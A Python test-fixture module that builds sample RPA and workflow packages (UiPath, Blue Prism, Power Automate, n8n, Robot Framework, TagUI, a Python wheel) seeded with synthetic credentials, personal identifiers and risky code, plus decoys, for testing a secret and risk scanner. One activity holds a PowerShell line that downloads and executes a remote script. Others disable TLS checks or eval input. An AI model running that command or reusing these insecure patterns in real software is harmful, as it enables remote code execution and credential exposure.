"""Artefacts of every platform with things put into them that the checks must find, and others that only look like such.

Whatever looks like a key is put together here and opens nothing.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from demonstration.builders import blueprism as bp
from demonstration.builders import power_automate as pa
from demonstration.builders import uipath as ui
from demonstration.builders.packing import zipped
from demonstration.builders.python import Wheel, wheel_file

MIXED = "q7Vx2LmZ9rTw4KpB8nYd3HsF6jGc1eUa"
OTHER = "m4Rk9ZtQ2vWx7LpB1nYd8HsF5jGc3eUb"
FORM = "Zt7-Oboe_Canal9.kR4"
AWS = "AK" + "IAQ5RZTLNWEV7HJM3K"
GITHUB = "gh" + "p_" + (MIXED + "Q2w4")
SLACK = "xo" + "xb-2048195733-9941" + MIXED[:16]
STORAGE = "AccountName=hantsstore;AccountKey=" + (MIXED * 3)[:86] + "=="
SAS = (
    "https://hantsstore.blob.core.windows.net/in?sv=2024-05-04&se=2099-01-01T00:00:00Z&sr=c&sp=rl&sig="
    + "dQ8tX2LmZ9rTw4KpB8nYd3HsF6jGc1eUa0vWx5z%3D"
)
JWT = ".".join(
    base64.urlsafe_b64encode(part).decode().rstrip("=")
    for part in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"robot-17","aud":"rms"}', MIXED.encode())
)
BASIC = base64.b64encode(b"svc_rms:Winter-2031!").decode()
PRIVATE_KEY = "-----BEGIN " + "RSA PRIVATE KEY-----\n" + (MIXED * 2) + "\n" + (MIXED * 2) + "\n-----END RSA PRIVATE KEY-----"
NOTIFY = "robots-8a1b7c52-9d3e-4f60-8b21-5c7d9e0f1a2b-3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f"
CLIENT_SECRET = "Kx28" + "Q~" + MIXED + "ab"
CONNECTION = "Data Source=rmsdb01;Initial Catalog=RMS;User ID=svc_rms;Password=Cello-Harbour-4;Encrypt=True"
NHS = "943 476 5870"  # a right check digit; nobody's, as far as one can know
NINO = "AB 43 21 09 C"
CPR = "010190-4321"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()


@dataclass(frozen=True)
class Planted:
    """A file, and for each thing in it the code that must be reported and a part of the place that must be named."""

    name: str
    filename: str
    data: Callable[[], bytes]
    expected: tuple[tuple[str, str], ...] = ()


def _nupkg(*steps: ui.Activity, variables: dict[str, str] | None = None, extra: dict[str, bytes | str] | None = None) -> bytes:
    package = ui.Package(
        "Hampshire.Planted",
        "1.0.0",
        "For the checks",
        "Hampshire",
        (ui.Workflow("Main.xaml", "Main", steps, variables=variables or {}),),
        {"UiPath.System.Activities": "[24.10.1]"},
    )
    data = ui.package_file(package)
    return _with(data, extra or {})


def _with(data: bytes, extra: dict[str, bytes | str]) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return zipped({**{name: archive.read(name) for name in archive.namelist()}, **extra})


def _activity(title: str, name: str, **properties: str) -> ui.Activity:
    return ui.Activity(f"{{{ui._UI}}}{name}", title, properties)


def _uipath() -> bytes:
    return _nupkg(
        _activity("Sign in to RMS", "GetPasswordX", Password="Tr0mbone-Lake!"),
        ui.assign("Keep the password", "strPassword", '"correct-horse-9"'),
        ui.type_into("Type into 'INPUT password'", "<webctrl tag='INPUT' />", '"Quartz-Violin-3"'),
        _activity("Ask the service", "HttpClient", Headers=f"Authorization: Bearer {MIXED}", EndPoint="http://rms-app01/api"),
        _activity("Open the share", "PathExists", Path=r"\\hq-files02\robots\in"),
        _activity(
            "Run it",
            "StartProcess",
            FileName="powershell.exe",
            Arguments="iex (New-Object Net.WebClient).DownloadString('https://a.example/x.ps1')",
        ),
        _activity("Find on screen", "ClickImage", Image=PNG),
        _activity("Tell her", "SendMail", To="jane.whitmore@hants.police.uk"),
        extra={
            "content/.screenshots/0a1b.png": b"\x89PNG\r\n\x1a\n" + b"x" * 2000,
            "content/Helper.cs": f'namespace A {{ class B {{ string blob = "{SAS}"; string key = "{AWS}"; }} }}',
            "content/Data/Input/people.csv": "Name,NHS number\nA B," + NHS + "\n",
            "content/settings.json": json.dumps({"rms": {"connectionString": CONNECTION, "clientSecret": OTHER}}),
            "content/.local/cache.json": json.dumps({"path": "C:\\Users\\j.whitmore\\Documents\\Robot"}),
        },
    )


def _uipath_decoys() -> bytes:
    return _nupkg(
        _activity("Sign in to RMS", "GetPasswordX", Password="{x:Null}", ApiKey='[in_Config("RmsKey").ToString]'),
        ui.assign("Keep the password", "strPassword", "secPassword"),
        ui.credential("Get the credential", "RMS_Service_Account", "user", "strPassword"),
        _activity("Empty", "GetPasswordX", Password="", PasswordVariable="strPassword"),
        ui.type_into("Type into 'INPUT password'", "<webctrl tag='INPUT' type='password' name='password' />", "strPassword"),
        _activity(
            "Sample",
            "HttpClient",
            Headers="Authorization: Bearer {{token}}",
            Body='{"access_token": "<access token>", "password": "********"}',
        ),
        extra={
            "content/settings.json": json.dumps(
                {
                    "password": "${RMS_PASSWORD}",
                    "apiKey": "your-api-key",
                    "token": "%TOKEN%",
                    "key": "AKIAIOSFODNN7EXAMPLE",
                    "secretName": "rms-secret",
                }
            ),
            "content/Helper.cs": 'var password = Environment.GetEnvironmentVariable("RMS_PASSWORD"); var secret = GetSecret("rms"); // password: see the vault',
            "content/README.md": "Set password=<your password> and `api_key: xxxxxxxx` first. Call 01632 960123 or mail rpa@example.org.",
        },
    )


def _blueprism() -> bytes:
    page = bp.Page(
        "Sign in",
        items=(
            bp.Item("RMS Password", "password", "Tr0mbone-Lake!"),
            bp.Item("API Key", "text", MIXED),
            bp.Item("Connection"),
            bp.Item("Service", "text", "https://rms.hq.local/api"),
            bp.Item("Patient NHS number", "text", NHS),
            bp.Item("Borger CPR", "text", CPR),
            bp.Item("Folder", "text", r"C:\Users\jwhitmore\Desktop\in"),
        ),
        steps=(
            bp.Call("Set header", "Utility - HTTP", "Get", {"Authorization": f'"Basic {BASIC}"'}),
            bp.Call("Start the client", "Utility - Environment", "Start Process", {"Application": '"cmd.exe"'}),
            bp.Compute("Make the connection", f'"{CONNECTION}"', "Connection"),
        ),
    )
    automation = bp.Automation("Planted", "For the checks", (bp.Page("Main Page"), page), is_object=True)
    release = bp.Release(
        "Planted", "For the checks", (automation,), environment=(bp.Item("RMS Service Password", "password", "cGxhbnRlZC12YWx1ZQ"),)
    )
    return bp.release_file(release)


def _blueprism_decoys() -> bytes:
    page = bp.Page(
        "Sign in",
        items=(
            bp.Item("RMS Password", "password", ""),
            bp.Item("Password Field Name", "text", "txtPassword"),
            bp.Item("API Key", "text", "[API Key from config]"),
            bp.Item("Reference", "text", "9434765870"),
            bp.Item("Order number", "text", CPR),
        ),
        steps=(
            bp.Call(
                "Get the credential",
                "Blueprism.Automate.clsCredentialsActions",
                "Get",
                {"Credentials Name": '"RMS"', "Password": "[RMS Password]"},
            ),
        ),
    )
    return bp.automation_file(bp.Automation("Decoys", "For the checks", (bp.Page("Main Page"), page), is_object=True))


def _collection() -> bytes:
    """A collection with rows, as Object Studio exports one, and a code stage."""
    return (
        '\ufeff<process name="Rows" bpversion="6.10.0" type="object"><subsheet subsheetid="p1" type="Normal" published="True"><name>Call the service</name></subsheet>'
        '<stage stageid="s0" name="Start" type="Start"><subsheetid>p1</subsheetid></stage>'
        '<stage stageid="s1" name="Headers" type="Collection"><subsheetid>p1</subsheetid><datatype>collection</datatype><initialvalue>'
        f'<row><field name="Authorization" type="text" value="Bearer {JWT}"/></row></initialvalue></stage>'
        '<stage stageid="s2" name="Post" type="Code"><subsheetid>p1</subsheetid><code><![CDATA[Dim c As New WebClient\n'
        'ServicePointManager.ServerCertificateValidationCallback = Function() True\nDim pwd As String = "Kite-Marble-77"]]></code></stage></process>'
    ).encode()


def _solution() -> bytes:
    action = {
        "type": "Http",
        "inputs": {
            "method": "GET",
            "uri": "https://hants.sharepoint.com/sites/robots",
            "authentication": {"type": "ActiveDirectoryOAuth", "clientId": "8a1b7c52-9d3e-4f60-8b21-5c7d9e0f1a2b", "secret": CLIENT_SECRET},
        },
    }
    flow = pa.Flow(
        "Planted", ("manual", {"type": "Request", "kind": "Button"}), {"Ask the service": action}, {"shared_office365": "mh_office"}
    )
    script = f"WebAutomation.PopulateTextField Text: A\r\nSET Password TO $'''Kite-Marble-77'''\r\nScripting.RunPowershellScript Script: $'''ls''' \r\nDatabase.Connect ConnectionString: $'''{CONNECTION}'''"
    desktop = pa.DesktopFlow("Planted desktop", script, modules=("WebAutomation",))
    return pa.solution_file(
        pa.Solution(
            "Planted",
            "Planted",
            "For the checks",
            "1.0.0.0",
            "Hampshire",
            "mh",
            (
                pa.Flow(
                    flow.name, flow.trigger, flow.actions, flow.connections, (pa.Variable("mh_ApiKey", "API key", "Of the service", MIXED),)
                ),
            ),
            (desktop,),
        )
    )


def _solution_decoys() -> bytes:
    action = {
        "type": "Http",
        "inputs": {
            "uri": "@parameters('Service (mh_Service)')",
            "headers": {"Authorization": "Bearer @{outputs('Token')}", "Ocp-Apim-Subscription-Key": "@parameters('key')"},
            "authentication": {"type": "ActiveDirectoryOAuth", "secret": "@parameters('secret')", "password": "@{body('Get')?['value']}"},
        },
    }
    schema = {
        "type": "Request",
        "inputs": {"schema": {"type": "object", "properties": {"password": {"type": "string", "title": "Password"}}}},
    }
    flow = pa.Flow("Decoys", ("manual", schema), {"Ask": action}, {"shared_office365": "mh_office"})
    script = "SET Password TO %SecretInput%\r\nWebAutomation.Fill Password: Password Text: $'''%Password%'''\r\n@@ConnectionString: ''"
    return pa.solution_file(
        pa.Solution(
            "Decoys", "Decoys", "For the checks", "1.0.0.0", "Hampshire", "mh", (flow,), (pa.DesktopFlow("Decoys desktop", script),)
        )
    )


def _first_generation() -> bytes:
    """A desktop flow as base64 of a zip with UTF-16 inside, and a screenshot in its repository of controls."""
    package = zipped(
        {
            "script.robin": "\ufeffFUNCTION Login GLOBAL\r\nSET ApiKey TO $'''".encode("utf-16-le")
            + f"{MIXED}'''\r\nEND FUNCTION".encode("utf-16-le"),
            "controlRepo.appmask": ("\ufeff" + json.dumps({"Screens": [{"ScreenShot": PNG}]})).encode("utf-16-le"),
        }
    )
    document = {"properties": {"definition": {"package": base64.b64encode(package).decode()}}}
    return _with(_solution_decoys(), {"Workflows/Login-1.json": json.dumps(document)})


def _legacy() -> bytes:
    definition = {
        "properties": {
            "definition": {
                "actions": {
                    "Post_it": {"inputs": {"headers": {"x-functions-key": MIXED}, "uri": SAS}},
                    "Sign_in": {"inputs": {"body": f"client_id=robot&client_secret={FORM}&grant_type=client_credentials"}},
                    "Sign_in_again": {"inputs": {"body": "client_id=robot&client_secret=@{variables('Secret1')}&scope=x"}},
                },
                "triggers": {},
            }
        }
    }
    manifest = {
        "schema": "1.0",
        "details": {"displayName": "Planted"},
        "resources": {"a": {"type": "Microsoft.Flow/flows"}, "b": {"details": {"displayName": "jane.whitmore@hants.police.uk"}}},
    }
    return zipped(
        {
            "manifest.json": json.dumps(manifest),
            "Microsoft.Flow/flows/manifest.json": "{}",
            "Microsoft.Flow/flows/0a1b/definition.json": json.dumps(definition),
        }
    )


def _robin() -> bytes:
    return (
        "@INPUT Case : { 'Type': 'String' }\r\nFUNCTION Login GLOBAL\r\n"
        "    WebAutomation.LaunchEdge Url: $'''http://10.20.30.40/login'''\r\n"
        "    MouseAndKeyboard.SendKeys TextToSend: $'''x'''\r\n    SET RmsPassword TO $'''Kite-Marble-77'''\r\nEND FUNCTION\r\n"
    ).encode("utf-16")


def _robin_copied() -> bytes:
    """A flow as the clipboard has it: the script, and behind it the elements with their pictures."""
    picture = "iVBORw0KGgo" + MIXED * 12
    element = json.dumps(
        {"Screens": [{"Controls": [{"Name": "span", "ScreenShot": picture, "Selectors": [{"CustomSelector": "div > span"}]}]}]}
    )
    return f"WebAutomation.Click BrowserInstance: Browser\n\n# [ControlRepository][PowerAutomateDesktop]\n\n{element}\n".encode()


def _n8n() -> bytes:
    def node(name: str, kind: str, **parameters: object) -> dict[str, object]:
        return {"id": name, "name": name, "type": f"n8n-nodes-base.{kind}", "typeVersion": 1, "parameters": parameters}

    headers = {"parameters": [{"name": "X-Api-Key", "value": MIXED}]}
    code = "const password = 'Kite-Marble-77';\nreturn eval($json.rule);"
    nodes = [
        node("Every day", "scheduleTrigger"),
        node("Ask RMS", "httpRequest", url="http://10.20.30.40/api", headerParameters=headers),
        node("Work out", "code", jsCode=code),
        node("Copy", "executeCommand", command="cp /in /out"),
        node("Note", "stickyNote", content="Ask jane.whitmore@hants.police.uk"),
    ]
    pinned = {"Ask RMS": [{"json": {"patient": f"NHS number {NHS}"}}]}
    return json.dumps({"name": "Planted", "nodes": nodes, "connections": {}, "pinData": pinned}).encode()


def _n8n_decoys() -> bytes:
    headers = [
        {"name": "Authorization", "value": "=Bearer {{ $json.access_token }}"},
        {"name": "X-Api-Key", "value": "={{ $env.RMS_API_KEY }}"},
        {"name": "password", "value": "{{ $credentials.rms.password }}"},
        {"name": "token", "value": "={{ $('Log in').item.json.token }}"},
        {"name": "secret", "value": "YOUR_SECRET_HERE"},
    ]
    node = {
        "id": "a1",
        "name": "Ask RMS",
        "type": "n8n-nodes-base.httpRequest",
        "typeVersion": 4.2,
        "webhookId": "8a1b7c52-9d3e-4f60-8b21-5c7d9e0f1a2b",
        "parameters": {
            "headerParameters": {"parameters": headers},
            "authentication": "genericCredentialType",
            "genericAuthType": "oAuth2Api",
        },
        "credentials": {"oAuth2Api": {"id": "dVIDzfKxdhu5ZEpE", "name": "RMS password"}},
    }
    code = {
        "id": "b2",
        "name": "Key",
        "type": "n8n-nodes-base.code",
        "parameters": {"jsCode": "const token = $env.TOKEN;\nconst password = $json.password;"},
    }
    whole = {"name": "Decoys", "nodes": [node, code], "connections": {}, "pinData": {}, "meta": {"instanceId": MIXED.lower() * 2}}
    return json.dumps(whole).encode()


def _public_code() -> bytes:
    return (
        'publiccodeYmlVersion: "0.4"\nname: Planted\nurl: https://git.example.org/planted\nplatforms: [web]\ndevelopmentStatus: beta\n'
        "softwareType: library\ndescription:\n  en:\n    shortDescription: For the checks.\n    longDescription: Sign in with\n"
        f"      token {GITHUB}\nlegal:\n  license: MIT\nmaintenance:\n  type: internal\n  contacts:\n    - name: Jane Whitmore\n"
        "      email: jane.whitmore@hants.police.uk\nlocalisation:\n  localisationReady: false\n  availableLanguages: [en]\n"
    ).encode()


def _wheel() -> bytes:
    source = (
        f'import subprocess, requests\nPASSWORD = "Kite-Marble-77"\nTOKEN = "{GITHUB}"\nHOOK = "{SLACK}"\nNOTIFY = "{NOTIFY}"\n'
        f'KEY = """{PRIVATE_KEY}"""\nSTORE = "DefaultEndpointsProtocol=https;{STORAGE}"\nDB = "postgresql://robot:Kite-Marble-78@db.hq.local/rms"\n'
        "def run(text):\n    subprocess.run(text, shell=True)\n    eval(text)\n    requests.get('https://rms.example.org', verify=False)\n"
        f"# national insurance number of the test person\nNINO = '{NINO}'\nPHONE = '+44 7911 204518'\n"
    )
    return wheel_file(Wheel("planted", "1.0.0", "For the checks", "MIT", "Hampshire", {"planted/__init__.py": source}))


def _wheel_decoys() -> bytes:
    source = (
        'import os\nPASSWORD = os.environ["RMS_PASSWORD"]\ntoken: str = get_token("password")\npassword = getpass("Password: ")\n'
        'parser.add_argument("--password", help="the password")\nlogin(user, password=password)\nsecret = "your-secret-here"\n'
        'assert password == "", "no password"\nHEADERS = {"Authorization": f"Bearer {token}"}\nURL = "https://{user}:{password}@host/"\n'
        'PASSWORD_FIELD = "txtPassword"\nMAX_TOKENS = "4096"\nsecret_name = "robots/rms"\n# password = "hunter2 is what films use"\n'
    )
    return wheel_file(Wheel("decoys", "1.0.0", "For the checks", "MIT", "Hampshire", {"decoys/__init__.py": source}))


def _bpmn() -> bytes:
    return (
        '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:c="http://camunda.org/schema/1.0/bpmn" id="d" targetNamespace="urn:t">'
        '<process id="p" name="Planted"><startEvent id="s"/><serviceTask id="t" name="Ask RMS"><extensionElements><c:properties>'
        f'<c:property name="apiKey" value="{MIXED}"/></c:properties></extensionElements></serviceTask>'
        '<scriptTask id="u" name="Work out" scriptFormat="javascript"><script>var password = "Kite-Marble-77"; eval(input);</script></scriptTask>'
        '<userTask id="v" name="Ring"><documentation>Patient with NHS number '
        + NHS
        + " rings 07911 204518.</documentation></userTask></process></definitions>"
    ).encode()


def _dmn() -> bytes:
    return (
        '<definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/" name="Planted" namespace="urn:t"><decision id="d" name="Route">'
        f"<description>Ask jane.whitmore@hants.police.uk. Token: Bearer {JWT}</description></decision></definitions>"
    ).encode()


def _robot() -> bytes:
    tasks = (
        "*** Settings ***\nLibrary    RPA.HTTP\n\n*** Variables ***\n${REGISTER_PASSWORD}    Kite-Marble-77\n${URL}    http://10.20.30.40/in\n\n"
        "*** Tasks ***\nPay fines\n    Input Password    id:password    Tr0mbone-Lake!\n    Sign In    robot    password=Quartz-Violin-3\n"
        "    Run Process    pay.exe    C:\\\\Users\\\\jwhitmore\\\\in\n    Log    Ask jane.whitmore@hants.police.uk\n"
    )
    return zipped(
        {
            "robot.yaml": "tasks:\n  Pay fines:\n    shell: python -m robot tasks.robot\n",
            "tasks.robot": tasks,
            "devdata/vault.json": json.dumps({"register": {"password": "correct-horse-9"}}),
        }
    )


def _robot_decoys() -> bytes:
    tasks = (
        "*** Variables ***\n${PASSWORD}    %{REGISTER_PASSWORD}\n${PASSWORD_FIELD}    id:password\n*** Tasks ***\nPay fines\n    ${secret}=    Get Secret    register\n"
        "    Input Password    id:password    ${secret}[password]\n    Input Password    password    ${PASSWORD}\n    Sign In    password=${secret}[password]\n"
        "    Set Test Variable    ${TOKEN}    ${EMPTY}\n"
    )
    return zipped({"robot.yaml": "tasks:\n  Pay fines:\n    shell: python -m robot tasks.robot\n", "tasks.robot": tasks})


def _tagui() -> bytes:
    return (
        "https://rms.hq.local/login\ntype password as Kite-Marble-77[enter]\napi_key = '" + MIXED + "'\nrun cmd /c start pay.exe\n"
        "echo Ask jane.whitmore@hants.police.uk\n"
    ).encode()


def _tagui_decoys() -> bytes:
    return b"https://fines.example.org\ntype password as `rms_password`\npassword = p1\nread #token to token\nclick password\nask What is the password?\n"


def _rows() -> Iterator[Planted]:
    yield Planted(
        "UiPath package",
        "Hampshire.Planted.1.0.0.nupkg",
        _uipath,
        (
            ("secret_found", "content/Main.xaml, activity “Sign in to RMS”, Password"),
            ("secret_found", "activity “Keep the password”, Value"),
            ("secret_found", "activity “Type into 'INPUT password'”, Text"),
            ("secret_found", "activity “Ask the service”, Headers"),
            ("secret_found", "content/Helper.cs, line 1"),  # the signed address
            ("secret_found", "content/Helper.cs, line 1"),  # the access key
            ("secret_found", "content/settings.json, rms.connectionString"),
            ("secret_found", "content/settings.json, rms.clientSecret"),
            ("personal_number", "content/Data/Input/people.csv, line 2"),
            ("personal_contact", "activity “Tell her”, To"),
            ("user_folder", "content/.local/cache.json, path"),
            ("host_reach", "activity “Ask the service”, EndPoint"),
            ("host_reach", "activity “Open the share”, Path"),
            ("risky_code", "activity “Run it”"),
            ("embedded_screenshots", "content/.screenshots/0a1b.png"),
            ("stored_test_data", "content/Data/Input/people.csv"),
            ("stored_test_data", ".local/"),
        ),
    )
    yield Planted("UiPath decoys", "Hampshire.Decoys.1.0.0.nupkg", _uipath_decoys)
    yield Planted(
        "Blue Prism release",
        "Planted.bprelease",
        _blueprism,
        (
            ("secret_found", "Object “Planted”, page “Sign in”, stage “RMS Password”, initial value"),
            ("secret_found", "stage “API Key”, initial value"),
            ("secret_found", "stage “Set header”, input “Authorization”"),
            ("secret_found", "stage “Make the connection”"),
            ("secret_found", "Environment variable “RMS Service Password”, value"),
            ("personal_number", "stage “Patient NHS number”, initial value"),
            ("personal_number", "stage “Borger CPR”, initial value"),
            ("user_folder", "stage “Folder”, initial value"),
            ("host_reach", "stage “Service”, initial value"),
            ("risky_code", "stage “Start the client”"),
        ),
    )
    yield Planted("Blue Prism decoys", "Decoys.xml", _blueprism_decoys)
    yield Planted(
        "Blue Prism collection",
        "Rows.xml",
        _collection,
        (
            ("secret_found", "Page “Call the service”, stage “Headers”, initial value, row 1, Authorization"),
            ("secret_found", "Page “Call the service”, stage “Post”, code, line 3"),
            ("risky_code", "stage “Post”, code, line 2"),
            ("risky_code", "Page “Call the service”, stage “Post”"),
            ("stored_test_data", "stage “Headers”, initial value"),
        ),
    )
    yield Planted(
        "Power Automate solution",
        "Planted_1_0_0_0.zip",
        _solution,
        (
            ("secret_found", "action “Ask the service”, authentication.secret"),
            ("secret_found", "mh_ApiKey"),
            ("secret_found", "Workflow “Planted desktop”, line 6"),
            ("secret_found", "Workflow “Planted desktop”, line 8"),
            ("host_reach", "action “Ask the service”, inputs.uri"),
            ("risky_code", "Workflow “Planted desktop”, line 7"),
        ),
    )
    yield Planted("Power Automate decoys", "Decoys_1_0_0_0.zip", _solution_decoys)
    yield Planted(
        "desktop flow in base64",
        "Login_1_0_0_0.zip",
        _first_generation,
        (("secret_found", "subflow “Login”, line 2"), ("embedded_screenshots", "controlRepo.appmask")),
    )
    yield Planted(
        "legacy flow",
        "Planted.zip",
        _legacy,
        (
            ("secret_found", "action “Post it”, headers.x-functions-key"),
            ("secret_found", "action “Post it”, inputs.uri"),
            ("secret_found", "action “Sign in”, inputs.body"),
            ("personal_contact", "manifest.json, details.displayName"),
        ),
    )
    yield Planted(
        "Robin text", "login.txt", _robin, (("secret_found", "Subflow “Login”, line 4"), ("host_reach", "Subflow “Login”, line 2"))
    )
    yield Planted("Robin text with its elements", "click.txt", _robin_copied, (("embedded_screenshots", "Elements"),))
    yield Planted(
        "n8n",
        "planted.json",
        _n8n,
        (
            ("secret_found", "Node “Ask RMS”"),
            ("host_reach", "Node “Ask RMS”, url"),
            ("secret_found", "Node “Work out”, code, line 1"),
            ("risky_code", "Node “Work out”, code, line 2"),
            ("risky_code", "Node “Work out”"),
            ("risky_code", "Node “Copy”"),
            ("personal_contact", "Node “Note”, note"),
            ("stored_test_data", "Node “Ask RMS”, pinned data"),
            ("personal_number", "Node “Ask RMS”, pinned data"),
        ),
    )
    yield Planted("n8n decoys", "decoys.json", _n8n_decoys)
    yield Planted("publiccode.yml", "publiccode.yml", _public_code, (("secret_found", "What its maintainers say, line 11"),))
    yield Planted(
        "Python wheel",
        "planted-1.0.0-py3-none-any.whl",
        _wheel,
        (
            *((("secret_found", f"planted/__init__.py, line {line}")) for line in (2, 3, 4, 5, 6)),
            ("secret_found", "planted/__init__.py, line 10"),
            ("secret_found", "planted/__init__.py, line 11"),
            ("personal_number", "planted/__init__.py, line 17"),
            ("personal_contact", "planted/__init__.py, line 18"),
            ("host_reach", "planted/__init__.py, line 11"),
            ("risky_code", "planted/__init__.py, line 13"),
            ("risky_code", "planted/__init__.py, line 14"),
            ("risky_code", "planted/__init__.py, line 15"),
        ),
    )
    yield Planted("Python decoys", "decoys-1.0.0-py3-none-any.whl", _wheel_decoys)
    yield Planted(
        "BPMN",
        "planted.bpmn",
        _bpmn,
        (
            ("secret_found", "“apiKey”, value"),
            ("secret_found", "ScriptTask “Work out”, script, line 1"),
            ("risky_code", "ScriptTask “Work out”, script, line 1"),
            ("risky_code", "ScriptTask “Work out”"),
            ("personal_number", "UserTask “Ring”, documentation"),
            ("personal_contact", "UserTask “Ring”, documentation"),
        ),
    )
    yield Planted(
        "DMN",
        "planted.dmn",
        _dmn,
        (("secret_found", "Decision “Route”, description"), ("personal_contact", "Decision “Route”, description")),
    )
    yield Planted(
        "robot",
        "robot.zip",
        _robot,
        (
            ("secret_found", "tasks.robot, line 5"),
            ("secret_found", "tasks.robot, task “Pay fines”, line 10"),
            ("secret_found", "tasks.robot, task “Pay fines”, line 11"),
            ("secret_found", "devdata/vault.json, register.password"),
            ("host_reach", "tasks.robot, line 6"),
            ("risky_code", "tasks.robot, task “Pay fines”, line 12"),
            ("user_folder", "tasks.robot, task “Pay fines”, line 12"),
            ("personal_contact", "tasks.robot, task “Pay fines”, line 13"),
        ),
    )
    yield Planted("robot decoys", "robot.zip", _robot_decoys)
    yield Planted(
        "TagUI flow",
        "login.tag",
        _tagui,
        (
            ("secret_found", "The file, line 2"),
            ("secret_found", "The file, line 3"),
            ("host_reach", "The file, line 1"),
            ("risky_code", "The file, line 4"),
            ("personal_contact", "The file, line 5"),
        ),
    )
    yield Planted("TagUI decoys", "fines.tag", _tagui_decoys)


PLANTED = tuple(_rows())
SECRETS = (
    MIXED, FORM, AWS, GITHUB, SLACK, JWT, BASIC, NOTIFY, CLIENT_SECRET, NHS, NINO, CPR, "Tr0mbone-Lake!", "correct-horse-9", "Quartz-Violin-3",
    "Cello-Harbour-4", OTHER, "Kite-Marble-77", "Kite-Marble-78", "jane.whitmore", "jwhitmore", "j.whitmore", "204518", "cGxhbnRlZC12YWx1ZQ",
)  # fmt: skip
